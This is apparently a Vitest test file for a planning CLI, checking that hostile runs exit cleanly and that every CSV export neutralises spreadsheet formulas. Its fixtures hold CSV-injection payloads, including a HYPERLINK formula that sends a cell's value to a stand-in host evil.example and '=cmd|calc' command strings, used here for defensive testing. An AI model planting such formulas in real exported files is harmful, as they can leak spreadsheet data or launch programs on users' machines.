import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { csvRecords } from '../../src/util/csv.js';
import { ensureBuilt } from '../cli/buildDist.js';
import { ROOT } from '../helpers/shared.js';
import { CLI_CASES, caseFolder, tiCsv } from './cliCases.js';
import { folderState, runBin } from './harness.js';

beforeAll(async () => {
  await ensureBuilt();
}, 600_000);

// Each case runs the built bin with a 256 MB heap: a reader that held a hostile file whole would die
// (exit 134) instead of answering. The 20 s timeout is the "in seconds" of the issue; the times
// themselves are measured by `npm run hostile-table`, not asserted here.
describe('hostile command lines (issue 21): each ends at once with its exit code, one line, no file changed', () => {
  it.each(CLI_CASES.map((c) => [`${c.id}: ${c.title}`, c] as const))('%s', async (_, c) => {
    const dir = caseFolder(c.id);
    const { argv, run } = c.setup(dir);
    const before = folderState(dir);
    const r = await runBin(argv, { cwd: dir, ...run });
    expect({ code: r.code, signal: r.signal }).toEqual({ code: c.code, signal: null });
    expect(r.stderr.trimEnd()).toMatch(c.stderr);
    // One line, bounded: at most 20 issues are listed.
    expect(r.stderr.split('\n')).toHaveLength(2);
    expect(r.stderr.length).toBeLessThan(8_000);
    expect(r.stdout).toBe('');
    expect(folderState(dir)).toEqual(before);
  }, 20_000);
});

/** A field a spreadsheet would run as a formula: it begins with = + - @, a tab or a carriage return, and is not a plain number or a lone '-'. */
const runs = (field: string): boolean => /^[=+\-@\t\r]/.test(field) && !/^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/.test(field) && field !== '-';

const NOTE = '=HYPERLINK("https://evil.example/?"&B2,"details")';
const PROGRESS = `Project ID,Reporting date,Status,KPI result,Problems and obstacles\nws1-m1.1-p1,2023-03-01,delayed,"@SUM(A1)","${NOTE.replace(/"/g, '""')}"\nws1-m1.1-p2,2023-03-01,done,"+1+cmd","-2+3"\n`;
const PROGRESS_JSON = JSON.stringify([{ projectId: 'ws1-m1.1-p1', date: '2023-03-01', status: 'delayed', kpiResult: '@SUM(A1)', problems: NOTE }]);

/** Every command line that writes CSV, each with the most hostile input it takes. */
const CSV_COMMANDS: readonly (readonly [string, (dir: string) => string[]])[] = [
  ['report', () => ['report', '--format', 'csv']],
  ['gaps --by source', () => ['gaps', '--format', 'csv']],
  ['gaps --by workstream', () => ['gaps', '--by', 'workstream', '--format', 'csv']],
  ['gaps --by cpi', () => ['gaps', '--by', 'cpi', '--format', 'csv']],
  ['trend', () => ['trend', 'cpi', '--until', '2030', '--format', 'csv']],
  ['scenario', () => ['scenario', join(ROOT, 'examples/scenarios/ws1-steady.yaml'), '--format', 'csv']],
  ['solve', () => ['solve', '--format', 'csv']],
  ['solve --levers', () => ['solve', '--levers', '--format', 'csv']],
  ['simulate', () => ['simulate', '--paths', '2000', '--format', 'csv']],
  ['plan summary', () => ['plan', 'summary', '--format', 'csv']],
  ['plan projects', () => ['plan', 'projects', '--source', 'WEF', '--format', 'csv']],
  ['plan template', () => ['plan', 'template', '--lang', 'en']],
  ...(['summary', 'obstacles', 'overdue', 'overBudget'] as const).flatMap((table) => [
    [`plan status --table ${table} (CSV notes)`, (dir: string) => ['plan', 'status', write(dir, 'p.csv', PROGRESS), '--format', 'csv', '--table', table, '--as-of', '2023-09-30']] as const,
    [`plan status --table ${table} (JSON notes)`, (dir: string) => ['plan', 'status', write(dir, 'p.json', PROGRESS_JSON), '--format', 'csv', '--table', table, '--as-of', '2023-09-30']] as const,
  ]),
  ['ti (a TI file with formula headers and names)', (dir) => ['ti', write(dir, 'ti.csv', tiCsv('50', '2').replace('Alpha', '=cmd|calc').replace('World Economic Forum EOS', '@SUM(A1)')), '--format', 'csv']],
  ['ti --country', (dir) => ['ti', write(dir, 'ti.csv', tiCsv('50', '2').replace('Alpha', '=cmd|calc')), '--country', 'ALP', '--format', 'csv']],
  ['countries', () => ['countries', '--format', 'csv']],
  ['peers', () => ['peers', '--format', 'csv']],
];

function write(dir: string, name: string, text: string): string {
  writeFileSync(join(dir, name), text);
  return name;
}

describe('every CSV the command line writes: no cell a spreadsheet would run', () => {
  it.each(CSV_COMMANDS)('%s', async (_, argv) => {
    const dir = caseFolder('csv');
    const r = await runBin(argv(dir), { cwd: dir });
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    const fields = csvRecords('test', r.stdout).flat();
    expect(fields.length).toBeGreaterThan(3);
    expect(fields.filter(runs)).toEqual([]);
  }, 20_000);

  it('the notes are there, as text', async () => {
    const dir = caseFolder('csv');
    const r = await runBin(['plan', 'status', write(dir, 'p.csv', PROGRESS), '--format', 'csv', '--table', 'obstacles', '--as-of', '2023-09-30'], { cwd: dir });
    expect(csvRecords('test', r.stdout).flat()).toContain(`'${NOTE}`);
  }, 20_000);
});
